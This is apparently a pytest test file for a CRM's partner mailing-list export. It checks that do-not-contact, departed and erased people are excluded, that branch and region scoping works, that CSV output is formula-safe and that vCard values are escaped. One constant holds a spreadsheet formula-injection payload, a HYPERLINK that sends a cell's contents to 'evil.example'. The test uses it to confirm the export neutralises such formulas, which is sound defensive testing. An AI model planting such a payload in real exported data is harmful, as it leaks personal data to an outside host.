"""The partner mailing list: who is on it (never do-not-contact, left or erased people), scope, formula-safe CSV
and escaped vCards, from contacts.mailing_list, crm.exports and ``python -m crm mailing-list``."""

import csv
import io
import os
import subprocess
import sys
from pathlib import Path

import pytest

from crm import branches, contacts, db, exports, organisations, privacy, users
from crm.access import COMMAND_LINE
from tests.conftest import PASSWORD, World, copy_world
from tests.pagehelpers import open_page, open_section, run_app_on

REPO = Path(__file__).resolve().parents[1]
HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A2,"Click for details")'
GP = "GP practice"
OT = "Community therapy (OT, physio, reablement)"
COUNCIL = "Council adult social care"


def person(name, job_title, organisation, partner_type, branch, email=None, phone=None, phone_display="", mobile=None):
    """One mailing-list row as contacts.mailing_list returns it: the columns shown, then the raw vCard fields."""
    return {
        "Name": name,
        "Job title": job_title,
        "Organisation": organisation,
        "Partner type": partner_type,
        "Branch": branch,
        "Email": email or "",
        "Phone": phone_display,
        "name": name,
        "job_title": job_title,
        "organisation": organisation,
        "email": email,
        "phone": phone,
        "mobile": mobile,
    }


BOB = person(
    "Bob Bristol", "Social worker", "Bristol Council Adult Social Care", COUNCIL, "Bristol", "bob@bristol.example"
)
ANN = person(
    "Ann Able",
    "Practice Manager",
    "Hyde Park Surgery",
    GP,
    "Leeds",
    "ann.able@example.nhs.uk",
    "+441134960123",
    "0113 496 0123 ext. 45",
    "+447400123456",
)
FAY = person("Fay Formula", HYPERLINK, "Leeds Community OT", OT, "Leeds", "fay@example.org")
PIP = person("pip Plus", "+44 113 496 0999", "Hyde Park Surgery", GP, "Leeds")
JO = person("O'Neil, Jo; Dr", "Lead GP, partner; trainer", "Barnes, Hale; Partners", GP, "York", "jo@example.org")
YAS = person("Yas York", "", "Hyde Park Surgery", GP, "York", None, "+441904496000", "01904 496000")
EVERYONE = [BOB, ANN, FAY, PIP, JO, YAS]  # by branch, then name in any letter case
NORTH = [ANN, FAY, PIP, JO, YAS]
LEEDS = [ANN, FAY, PIP]
SOUTH = [BOB]
NEVER_LISTED = ["Dan Do-not-contact", "Len Left", "Eve Erased", "Dot Do-not-contact"]


@pytest.fixture(scope="module")
def template(tmp_path_factory) -> tuple[Path, World]:
    """The world with people of every kind: mailable ones (formula-like job titles, commas and semicolons in
    names), and do-not-contact, left and erased ones. Built once because hashing passwords is slow."""
    path = tmp_path_factory.mktemp("mailing") / "crm.db"
    database = db.connect(path)
    world = World(database, users.create_first_admin(database, "ada", "Ada Admin", PASSWORD))
    barnes = organisations.add(database, world.admin, {"name": "Barnes, Hale; Partners", "type_code": "GP_PRACTICE"})
    world.contact(
        world.bristol,
        "Bob Bristol",
        world.council,
        job_title="Social worker",
        email="bob@bristol.example",
    )
    world.contact(world.bristol, "Dot Do-not-contact", world.council, email="dot@bristol.example", do_not_contact=True)
    world.contact(
        world.leeds,
        "Ann Able",
        job_title="Practice Manager",
        email="ann.able@example.nhs.uk",
        phone="0113 496 0123 ext 45",
        mobile="07400 123456",
    )
    world.contact(world.leeds, "Fay Formula", world.ot, job_title=HYPERLINK, email="fay@example.org")
    world.contact(world.leeds, "pip Plus", job_title="+44 113 496 0999")
    world.contact(world.leeds, "Dan Do-not-contact", email="dan@example.org", do_not_contact=True)
    left = world.contact(world.leeds, "Len Left", email="len@example.org")
    contacts.mark_left(database, world.admin, left, contacts.get(database, world.admin, left)["version"])
    erased = world.contact(world.leeds, "Eve Erased", email="eve@example.org", phone="0113 496 0777")
    privacy.erase(database, world.admin, erased)
    world.contact(world.york, "O'Neil, Jo; Dr", barnes, job_title="Lead GP, partner; trainer", email="jo@example.org")
    world.contact(world.york, "Yas York", phone="01904 496000")
    database.close()
    return path, world


@pytest.fixture
def world(template, db_path) -> World:
    """A copy of the template world at ``db_path`` (the file the command line is pointed at)."""
    path, built = template
    scene = copy_world(path, built, db_path)
    scene.path = db_path
    yield scene
    scene.db.close()


def run_cli(db_path: Path, *args: str) -> subprocess.CompletedProcess:
    """Run ``python -m crm`` from the repository root with CRM_DB set."""
    env = {k: v for k, v in os.environ.items() if not k.startswith("CRM_")}
    env["CRM_DB"] = str(db_path)
    return subprocess.run(
        [sys.executable, "-m", "crm", *args],
        cwd=REPO,
        env=env,
        stdin=subprocess.DEVNULL,
        capture_output=True,
        text=True,
        timeout=120,
    )


def csv_rows(path: Path) -> list[dict]:
    with path.open(encoding="utf-8-sig", newline="") as file:
        return list(csv.DictReader(file))


def shown(people: list[dict]) -> list[dict]:
    """The CSV columns of mailing-list rows, formula-like cells with their apostrophe, as csv reads them back."""
    return [{column: str(exports.safe_cell(p[column])) for column in contacts.MAILING_COLUMNS} for p in people]


def split_unescaped(value: str, separator: str | None = None) -> list[str]:
    """Split a vCard value on ``separator`` (if given) where it is not escaped, and unescape each part
    (RFC 2426: backslash, comma, semicolon, and n for a line break)."""
    parts, current, chars = [], [], iter(value)
    for char in chars:
        if char == "\\":
            escaped = next(chars)
            current.append("\n" if escaped in "nN" else escaped)
        elif char == separator:
            parts.append("".join(current))
            current = []
        else:
            current.append(char)
    return [*parts, "".join(current)]


def parse_vcards(text: str) -> list[dict]:
    """Each card as {property with its parameters: value}, N and ORG split into their parts, the rest unescaped."""
    assert text.endswith("\r\n") or text == ""
    cards, card = [], None
    for line in text.split("\r\n")[:-1]:
        if line == "BEGIN:VCARD":
            assert card is None
            card = {}
            continue
        if line == "END:VCARD":
            cards.append(card)
            card = None
            continue
        assert card is not None, line
        key, _, value = line.partition(":")
        assert key not in card, key
        card[key] = split_unescaped(value, ";") if key in ("N", "ORG") else split_unescaped(value)[0]
    assert card is None
    return cards


def card(p: dict) -> dict:
    """The vCard expected for a mailing-list row."""
    expected = {"VERSION": "3.0", "FN": p["name"], "N": [p["name"], "", "", "", ""], "ORG": [p["organisation"]]}
    if p["job_title"]:
        expected["TITLE"] = p["job_title"]
    if p["email"]:
        expected["EMAIL;TYPE=INTERNET"] = p["email"]
    if p["phone"]:
        expected["TEL;TYPE=WORK,VOICE"] = p["phone"]
    if p["mobile"]:
        expected["TEL;TYPE=CELL"] = p["mobile"]
    return expected


# contacts.mailing_list


def test_mailing_list_whole_rows(world):
    """Test that the mailing list holds every active, contactable person as whole rows, by branch then name, and
    nobody marked do-not-contact, left or erased."""
    assert contacts.mailing_list(world.db, world.admin) == EVERYONE


@pytest.mark.parametrize(
    ("who", "region", "branch", "expected"),
    [
        ("admin", None, None, EVERYONE),
        ("admin", "north", None, NORTH),
        ("admin", "south", None, SOUTH),
        ("admin", None, "leeds", LEEDS),
        ("admin", "north", "leeds", LEEDS),
        ("admin", "south", "leeds", []),
        ("lead_north", None, None, NORTH),
        ("lead_north", None, "york", [JO, YAS]),
        ("lead_north", "south", None, []),
        ("lead_north", None, "bristol", []),
        ("lead_south", None, None, SOUTH),
        ("manager_leeds", None, None, LEEDS),
        ("manager_leeds", "north", None, LEEDS),
        ("manager_leeds", None, "york", []),
        ("manager_york", None, None, [JO, YAS]),
        ("manager_bristol", None, None, SOUTH),
    ],
)
def test_mailing_list_scope(world, who, region, branch, expected):
    """Test that each user only gets the people of their own branches, and that region and branch filters narrow
    within that scope and never widen it."""
    rows = contacts.mailing_list(
        world.db,
        getattr(world, who),
        region_id=getattr(world, region) if region else None,
        branch_id=getattr(world, branch) if branch else None,
    )

    assert rows == expected


def test_marking_do_not_contact_or_left_takes_people_off_and_reinstating_puts_them_back(world):
    """Test that the list follows the record: do-not-contact or leaving takes someone off, undoing it puts them
    back."""
    pip = next(c["id"] for c in contacts.search(world.db, world.admin, text="pip Plus"))
    record = contacts.get(world.db, world.admin, pip)
    values = {k: record[k] for k in contacts.FIELDS if k in record} | {"phone": None, "mobile": None}

    contacts.update(world.db, world.admin, pip, values | {"do_not_contact": True}, record["version"])
    assert contacts.mailing_list(world.db, world.manager_leeds) == [ANN, FAY]

    record = contacts.get(world.db, world.admin, pip)
    contacts.update(world.db, world.admin, pip, values | {"do_not_contact": False}, record["version"])
    contacts.mark_left(world.db, world.admin, pip, contacts.get(world.db, world.admin, pip)["version"])
    assert contacts.mailing_list(world.db, world.manager_leeds) == [ANN, FAY]

    contacts.reinstate(world.db, world.admin, pip, contacts.get(world.db, world.admin, pip)["version"])
    assert contacts.mailing_list(world.db, world.manager_leeds) == LEEDS


def test_erasing_takes_someone_off_the_list(world):
    """Test that an erased person is not on the list, and nothing of theirs is."""
    ann = next(c["id"] for c in contacts.search(world.db, world.admin, text="Ann Able"))

    privacy.erase(world.db, world.admin, ann)

    assert contacts.mailing_list(world.db, world.admin) == [BOB, FAY, PIP, JO, YAS]


# Formula-safe CSV and escaped vCards (crm.exports).


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        ("+44 113 496 0999", "'+44 113 496 0999"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Practice Manager", "Practice Manager"),
        ("Head of OT = lead", "Head of OT = lead"),
        ("", ""),
        (None, None),
        (45, 45),
    ],
)
def test_safe_cell(value, expected):
    """Test that text a spreadsheet would run as a formula gets a leading apostrophe, and nothing else changes."""
    assert exports.safe_cell(value) == expected


def test_to_csv_mailing_list_reads_back_formula_safe(world):
    """Test that the CSV of the mailing list has the header row and one row per person, every formula-like cell
    starting with an apostrophe."""
    text = exports.to_csv(contacts.mailing_list(world.db, world.manager_leeds), contacts.MAILING_COLUMNS)

    assert list(csv.DictReader(io.StringIO(text, newline=""))) == [
        {
            "Name": "Ann Able",
            "Job title": "Practice Manager",
            "Organisation": "Hyde Park Surgery",
            "Partner type": GP,
            "Branch": "Leeds",
            "Email": "ann.able@example.nhs.uk",
            "Phone": "0113 496 0123 ext. 45",
        },
        {
            "Name": "Fay Formula",
            "Job title": "'" + HYPERLINK,
            "Organisation": "Leeds Community OT",
            "Partner type": OT,
            "Branch": "Leeds",
            "Email": "fay@example.org",
            "Phone": "",
        },
        {
            "Name": "pip Plus",
            "Job title": "'+44 113 496 0999",
            "Organisation": "Hyde Park Surgery",
            "Partner type": GP,
            "Branch": "Leeds",
            "Email": "",
            "Phone": "",
        },
    ]
    assert text.splitlines()[0] == "Name,Job title,Organisation,Partner type,Branch,Email,Phone"


def test_to_vcards_escapes_commas_semicolons_backslashes_and_line_breaks():
    """Test that a vCard escapes commas, semicolons, backslashes and line breaks in every value, so a name or
    organisation with them stays one value."""
    text = exports.to_vcards(
        [
            {
                "name": "O'Neil, Jo; Dr",
                "organisation": "Barnes, Hale; Partners",
                "job_title": "Lead\\deputy\nGP",
                "email": "jo@example.org",
                "phone": None,
                "mobile": None,
            }
        ]
    )

    assert text == (
        "BEGIN:VCARD\r\n"
        "VERSION:3.0\r\n"
        "FN:O'Neil\\, Jo\\; Dr\r\n"
        "N:O'Neil\\, Jo\\; Dr;;;;\r\n"
        "ORG:Barnes\\, Hale\\; Partners\r\n"
        "TITLE:Lead\\\\deputy\\nGP\r\n"
        "EMAIL;TYPE=INTERNET:jo@example.org\r\n"
        "END:VCARD\r\n"
    )
    assert parse_vcards(text) == [
        {
            "VERSION": "3.0",
            "FN": "O'Neil, Jo; Dr",
            "N": ["O'Neil, Jo; Dr", "", "", "", ""],
            "ORG": ["Barnes, Hale; Partners"],
            "TITLE": "Lead\\deputy\nGP",
            "EMAIL;TYPE=INTERNET": "jo@example.org",
        }
    ]


def test_to_vcards_of_nobody_is_empty():
    """Test that an empty list gives an empty file, not a stray line break."""
    assert exports.to_vcards([]) == ""


# python -m crm mailing-list


def test_cli_csv_leaves_out_do_not_contact_left_and_erased_people(world, tmp_path):
    """Test that the CSV written by the command line (UTF-8 with a BOM, for Excel) holds exactly the mailable
    people, formula-safe, and none of the do-not-contact, left or erased ones."""
    out = tmp_path / "mailing.csv"

    result = run_cli(world.path, "mailing-list", "--format", "csv", "--out", str(out))

    assert (result.returncode, result.stdout, result.stderr) == (0, f"wrote 6 contacts to {out}\n", "")
    assert out.read_bytes().startswith(b"\xef\xbb\xbf")
    rows = csv_rows(out)
    assert rows == shown(EVERYONE)
    assert [r["Job title"] for r in rows if r["Name"] in ("Fay Formula", "pip Plus")] == [
        "'" + HYPERLINK,
        "'+44 113 496 0999",
    ]
    text = out.read_bytes().decode("utf-8-sig")
    for name in NEVER_LISTED:
        assert name not in text
    for email in ("dan@example.org", "len@example.org", "eve@example.org", "dot@bristol.example"):
        assert email not in text


def test_cli_vcf_leaves_out_do_not_contact_left_and_erased_people(world, tmp_path):
    """Test that the vCards written by the command line are exactly the mailable people's cards, commas and
    semicolons in names and organisations escaped, and none of the do-not-contact, left or erased ones."""
    out = tmp_path / "mailing.vcf"

    result = run_cli(world.path, "mailing-list", "--format", "vcf", "--out", str(out))

    assert (result.returncode, result.stdout, result.stderr) == (0, f"wrote 6 contacts to {out}\n", "")
    text = out.read_bytes().decode("utf-8")
    assert parse_vcards(text) == [card(p) for p in EVERYONE]
    assert "FN:O'Neil\\, Jo\\; Dr\r\n" in text
    assert "ORG:Barnes\\, Hale\\; Partners\r\n" in text
    assert "TITLE:Lead GP\\, partner\\; trainer\r\n" in text
    for name in NEVER_LISTED:
        assert name not in text


@pytest.mark.parametrize(
    ("scope", "fmt", "expected"),
    [
        (["--branch", "Leeds"], "csv", LEEDS),
        (["--branch", "york"], "vcf", [JO, YAS]),
        (["--region", "North"], "vcf", NORTH),
        (["--region", "South"], "csv", SOUTH),
    ],
)
def test_cli_scope(world, tmp_path, scope, fmt, expected):
    """Test that --branch and --region limit the file to that branch's or region's mailable people."""
    out = tmp_path / f"mailing.{fmt}"

    result = run_cli(world.path, "mailing-list", "--format", fmt, "--out", str(out), *scope)

    assert (result.returncode, result.stdout, result.stderr) == (0, f"wrote {len(expected)} contacts to {out}\n", "")
    if fmt == "csv":
        assert csv_rows(out) == shown(expected)
    else:
        assert parse_vcards(out.read_bytes().decode("utf-8")) == [card(p) for p in expected]


@pytest.mark.parametrize(
    ("args", "status", "message"),
    [
        (["--branch", "Leeds", "--region", "North"], 2, "give --branch or --region, not both"),
        (["--branch", "Harrogate"], 1, "No branch called “Harrogate”."),
        (["--region", "Wales"], 1, "No region called “Wales”."),
    ],
)
def test_cli_bad_scope_writes_nothing(world, tmp_path, args, status, message):
    """Test that a bad scope is refused with one line on stderr and no file is written."""
    out = tmp_path / "mailing.csv"

    result = run_cli(world.path, "mailing-list", "--format", "csv", "--out", str(out), *args)

    assert (result.returncode, result.stdout, result.stderr) == (status, "", f"error: {message}\n")
    assert not out.exists()


def test_cli_empty_branch_writes_a_header_only_csv(world, tmp_path):
    """Test that a branch with nobody to mail gives a CSV with only its header row."""
    branches.add_branch(world.db, COMMAND_LINE, "Harrogate", world.north)
    out = tmp_path / "mailing.csv"

    result = run_cli(world.path, "mailing-list", "--format", "csv", "--out", str(out), "--branch", "Harrogate")

    assert (result.returncode, result.stdout, result.stderr) == (0, f"wrote 0 contacts to {out}\n", "")
    assert out.read_bytes().decode("utf-8-sig") == "Name,Job title,Organisation,Partner type,Branch,Email,Phone\r\n"


# The Contacts page's "Partner mailing list" expander.


@pytest.fixture
def app_env(monkeypatch, db_path):
    """The app runs on the test's own database file (CRM_DB); see pagehelpers.run_app_on for why AppTest's cookies and
    folder-based multipage mode are switched off."""
    run_app_on(monkeypatch, db_path)


@pytest.mark.parametrize(("username", "count"), [("manager.leeds", 3), ("lead.north", 5), ("ada", 6)])
def test_contacts_page_offers_the_mailing_list_of_the_users_scope(app_env, world, username, count):
    """Test that the Contacts page offers the mailing list as CSV and vCard downloads, counting only the mailable
    people in the user's scope, once its section is opened (closed, nothing in it is drawn or counted)."""
    at = open_page(username, "contacts")
    assert [b.key for b in at.get("download_button") if b.key.startswith("contacts_mailing_")] == []

    open_section(at, "Partner mailing list")
    assert {b.key: b.label for b in at.get("download_button")} == {
        "contacts_mailing_csv": f"CSV ({count} people)",
        "contacts_mailing_vcf": "vCard",
    }
